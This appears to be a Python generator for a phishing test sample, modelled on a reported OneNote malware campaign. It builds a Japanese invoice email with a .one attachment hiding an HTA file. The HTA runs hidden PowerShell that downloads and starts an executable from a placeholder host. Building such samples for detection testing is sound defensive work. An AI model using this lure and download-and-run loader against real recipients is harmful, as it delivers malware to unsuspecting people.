"""A notebook page that says "double click to view", over an embedded application.
Scenario: Proofpoint, "OneNote Documents Increasingly Used to Deliver Malware" (2023)."""
from kit import *


def make():
    page = ("<html><body><script>new ActiveXObject('WScript.Shell').Run('powershell -w hidden iwr "
            "http://x.example.invalid/a.exe -OutFile %TEMP%\\a.exe; start %TEMP%\\a.exe',0)</script></body></html>")
    note = onenote([("image.png", b"\x89PNG\r\n\x1a\n" + bytes(200)), ("請求書.hta", page.encode())])
    return (Mail("請求書送付の件", "sales@trade.example.com").text("お世話になっております。\n請求書をお送りします。\n")
            .attach("請求書.one", note).bytes())
